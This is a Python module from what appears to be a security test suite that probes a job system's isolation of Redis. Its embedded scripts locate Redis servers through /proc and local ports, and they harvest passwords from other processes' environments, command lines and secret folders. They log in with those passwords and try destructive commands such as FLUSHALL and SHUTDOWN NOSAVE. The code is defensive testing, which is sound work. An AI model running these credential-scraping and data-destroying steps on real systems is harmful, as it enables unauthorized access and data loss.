"""Code of a job that looks for Redis, and does there what it can: with nothing, and with what it finds lying around."""

from __future__ import annotations

from tests.security.attack import Attack, Target

_LOOK: str = r'''
import glob, os, re, socket


def servers():
    """Everything that listens like Redis, wherever this process can see it."""
    paths = {line.split()[-1] for line in open("/proc/net/unix") if line.rstrip().endswith(".sock")}
    paths |= set(glob.glob("/tmp/*/redis.sock"))
    ports = {6379}
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        words = line.split()
        if words[3] == "0A":
            ports.add(int(words[1].split(":")[1], 16))
    places = [(socket.AF_UNIX, path) for path in paths]
    places += [(socket.AF_INET, (host, port)) for host in ("redis", "127.0.0.1") for port in ports]
    for kind, address in places:
        if "".join(ask(kind, address, "PING"))[:1] in ("+", "-"):
            yield kind, address


def ask(kind, address, *lines):
    """The answers of a server; nothing if it isn't there, or is none of Redis."""
    with socket.socket(kind, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        try:
            connection.connect(address)
            connection.sendall("".join(line + "\r\n" for line in lines).encode())
            answers = b""
            while answers.count(b"\r\n") < len(lines):
                more = connection.recv(4096)
                if not more:
                    break
                answers += more
        except OSError:
            return []
    return [line.decode(errors="replace") for line in answers.split(b"\r\n")]


def job():
    """The id of this very job, by which its server is told from others on this machine."""
    words = [*os.environ.values(), os.getcwd(), *glob.glob("/proc/self/fd/*")]
    words += [os.path.realpath(word) for word in words if word.startswith("/")]
    return re.search(r"job_[0-9a-z]{20}", " ".join(words)).group()


def has_this_job(kind, address, *login):
    answers = ask(kind, address, *login, "EXISTS parallelrun:{" + job() + "}:job")
    return len(answers) > len(login) and answers[len(login)] == ":1"


def secrets():
    """Whatever looks like a password, in what this user may read."""
    text = ""
    places = [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/tmp/*/users.acl")]
    for folder in ("/data", "/secret", "/secrets", "/run/secrets", "/users", os.path.expanduser("~")):
        places += [path for path in glob.glob(folder + "/*") + glob.glob(folder + "/*/*") if os.path.isfile(path)]
    for place in places:
        try:
            with open(place, errors="replace") as file:
                text += "\0" + file.read(100000)
        except OSError:
            pass
    words = set(re.findall(r"(?:REDIS_SECRET|PASSWORD|requirepass)\W+(\w+)", text))
    return words | set(re.findall(r"\b[0-9a-f]{64}\b", text)) | set(re.findall(r"//\w*:(\w+)@", text))
'''

_WITHOUT = (
    _LOOK
    + r"""
def run(mini_batch):
    through = []
    for kind, address in servers():
        if has_this_job(kind, address):
            through.append(f"{address} knows this job and asks for no password")
    return through or ["held"]
"""
)

_WITH = (
    _LOOK
    + r"""
def run(mini_batch):
    through = []
    for kind, address in servers():
        for secret in secrets():
            for user in ("agent", "master", "api", "concatenator", "default"):
                if has_this_job(kind, address, f"AUTH {user} {secret}"):
                    through.append(f"{user} at {address}, with a secret that lay around")
    return through or ["held"]
"""
)

_BEYOND = (
    _LOOK
    + r"""
def run(mini_batch):
    through = []
    for kind, address in servers():
        for secret in secrets():
            if not has_this_job(kind, address, f"AUTH agent {secret}"):
                continue
            for command in (
                "FLUSHALL", "CONFIG SET maxmemory 1", "EVAL return 0", "KEYS *", "ACL LIST", "SHUTDOWN NOSAVE",
                "RPUSH rq:queue:jobs x", "GET parallelrun:known", "SET canary 1", "DEBUG SLEEP 0",
            ):
                answers = ask(kind, address, f"AUTH agent {secret}", command)
                if len(answers) > 1 and answers[0] == "+OK" and answers[1][:1] in "+*$:":
                    through.append(f"{command} as an agent at {address}: {answers[1][:40]}")
    return through or ["held"]
"""
)


def _play(script: str, target: Target) -> str:
    rows = target.rows_of(script)
    if not rows:
        return "nothing came back"
    return "; ".join(row for row in rows if row != "held")


def use_redis_without_a_password(target: Target) -> str:
    """Find a server through /proc and the network, and call it."""
    return _play(_WITHOUT, target)


def use_redis_with_what_lies_around(target: Target) -> str:
    """Look for a password in other processes and in files, and log in with it."""
    return _play(_WITH, target)


def administer_redis_as_an_agent(target: Target) -> str:
    """Log in as the agent, and do what an agent never does."""
    return _play(_BEYOND, target)


ATTACKS: list[Attack] = [
    Attack("redis without a password", use_redis_without_a_password),
    Attack("redis with what lies around", use_redis_with_what_lies_around, apart_only=True),
    Attack("redis administered as an agent", administer_redis_as_an_agent),
]
